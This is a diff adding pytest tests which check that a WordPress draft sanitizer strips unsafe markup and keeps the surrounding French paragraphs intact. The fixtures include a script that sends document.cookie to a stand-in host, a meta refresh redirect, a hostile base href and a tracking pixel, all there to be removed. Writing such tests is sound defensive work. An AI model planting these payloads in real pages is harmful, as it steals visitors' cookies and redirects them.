@@ -472,3 +472,88 @@ def test_block_attributes_are_written_as_wordpress_writes_them():
     assert encoded == ('{"t":"Il a dit \\u0022oui\\u0022 \\u002d\\u002d \\u003cb\\u003e \\u0026 \\u003c/b\\u003e",'
                        '"path":"a/b","back":"x\\\\","é":["ü",1.5,null,true]}')
     assert json.loads(encoded) == attributes
+
+
+# -- what the bridge never keeps never swallows the draft's text ----------------------------------
+
+ONE = "Le conseil municipal a voté mardi soir le budget de la rénovation des écoles après un long débat."
+TWO = "Les travaux commenceront pendant les vacances d’été et les parents seront informés par courrier."
+THREE = "Le vote a réuni une large majorité des élus présents malgré les réserves de l’opposition."
+
+#: Markup the bridge never keeps, and how its removal is reported.
+NEVER_KEPT = {
+    "base": ('<base href="https://collecte.example/">', "1 base element"),
+    "meta": ('<meta http-equiv="refresh" content="0;url=https://collecte.example/">', "1 meta http-equiv element"),
+    "link": ('<link rel="stylesheet" href="https://collecte.example/a.css">', "1 link element"),
+    "style": ("<style>body{display:none}</style>", "1 style element"),
+    "script": ("<script>document.location='https://collecte.example/?'+document.cookie</script>", "1 script element"),
+    "stray-noscript": ("<noscript>", "1 noscript element"),
+    "noscript": ('<noscript><img src="https://collecte.example/p.gif"></noscript>', "1 noscript element"),
+    "stray-script": ('<script src="https://collecte.example/a.js">', "1 script element"),
+}
+
+
+def _classic(markup: str, where: str) -> str:
+    return {
+        "own-line": f"<p>{ONE}</p>\n{markup}\n<p>{TWO}</p>\n\n<p>{THREE}</p>",
+        "own-chunk": f"<p>{ONE}</p>\n\n{markup}\n\n<p>{TWO}</p>\n\n<p>{THREE}</p>",
+        "first": f"{markup}\n<p>{ONE}</p>\n\n<p>{TWO}</p>\n\n<p>{THREE}</p>",
+        "last": f"<p>{ONE}</p>\n\n<p>{TWO}</p>\n\n<p>{THREE}</p>\n{markup}",
+        "in-a-paragraph": f"<p>{ONE}</p>\n\n<p>{TWO} {markup}</p>\n\n<p>{THREE}</p>",
+        "between-bare-lines": f"<p>{ONE}</p>\n\n{TWO}\n{markup}\n\n{THREE}",
+    }[where]
+
+
+def _blocks(markup: str, where: str) -> str:
+    return {
+        "between-blocks": "\n\n".join([_paragraph_block(ONE), markup, _paragraph_block(TWO), _paragraph_block(THREE)]),
+        "between-blocks-tight": _paragraph_block(ONE) + markup + _paragraph_block(TWO) + "\n\n" + _paragraph_block(THREE),
+        "in-a-paragraph": "\n\n".join([_paragraph_block(ONE), _paragraph_block(f"{TWO} {markup}"), _paragraph_block(THREE)]),
+        "beside-a-paragraph": "\n\n".join([_paragraph_block(ONE), f"<!-- wp:paragraph -->\n{markup}<p>{TWO}</p>\n"
+                                           "<!-- /wp:paragraph -->", _paragraph_block(THREE)]),
+        "beside-a-heading": "\n\n".join([_paragraph_block(ONE), f"<!-- wp:heading -->\n<h2>{TWO}</h2>{markup}\n"
+                                         "<!-- /wp:heading -->", _paragraph_block(THREE)]),
+    }[where]
+
+
+def _plain(markup: str, where: str) -> str:
+    return {
+        "own-line": f"{ONE}\n{markup}\n{TWO}\n{THREE}",
+        "in-a-line": f"{ONE}\n{TWO} {markup}\n{THREE}",
+        "first": f"{markup}\n{ONE}\n{TWO}\n{THREE}",
+    }[where]
+
+
+PLACES = [("classic", w) for w in ("own-line", "own-chunk", "first", "last", "in-a-paragraph", "between-bare-lines")] + [
+    ("blocks", w) for w in ("between-blocks", "between-blocks-tight", "in-a-paragraph", "beside-a-paragraph",
+                            "beside-a-heading")] + [("plain", w) for w in ("own-line", "in-a-line", "first")]
+
+
+@pytest.mark.parametrize(("form", "where"), PLACES, ids=[f"{f}-{w}" for f, w in PLACES])
+@pytest.mark.parametrize("kind", NEVER_KEPT)
+def test_what_is_never_kept_goes_and_the_text_around_it_stays_text(kind, form, where):
+    markup, report = NEVER_KEPT[kind]
+    draft = {"classic": _classic, "blocks": _blocks, "plain": _plain}[form](markup, where)
+    document = parse(draft)
+    assert str(document.removed) == report
+    words = " ".join(b.text for b in document.text_blocks)
+    for text in (ONE, TWO, THREE):
+        assert words.count(text) == 1, (text, document.blocks)
+    rendered = render(document.blocks, "blocks" if form == "blocks" else "classic", document.shortcodes)
+    assert browser_readings(rendered) == [] and "collecte.example" not in rendered and "&lt;" not in rendered
+
+
+def test_a_base_swallows_no_classic_draft():
+    paragraphs = [f"<p>{ONE} Paragraphe {n}.</p>" for n in range(1, 9)]
+    draft = "\n".join(paragraphs[:4] + ['<base href="https://evil.example/">'] + paragraphs[4:])
+    document = parse(draft)
+    assert document.word_count() > 150 and str(document.removed) == "1 base element"
+    assert not document.placeholders
+
+
+def test_a_clean_meta_and_a_commented_tag_are_no_reason_to_keep_text():
+    document = parse(f'<p>{ONE}</p>\n<meta name="robots" content="noindex">\n<p>{TWO}</p>\n<!-- <div> ancien encadré -->\n'
+                     f"<p>{THREE}</p>")
+    assert [b.text for b in document.text_blocks] == [ONE, TWO, THREE] and not document.removed
+    assert [b.markup for b in document.blocks if isinstance(b, Placeholder)] == [
+        '<meta name="robots" content="noindex">', "<!-- <div> ancien encadré -->"]
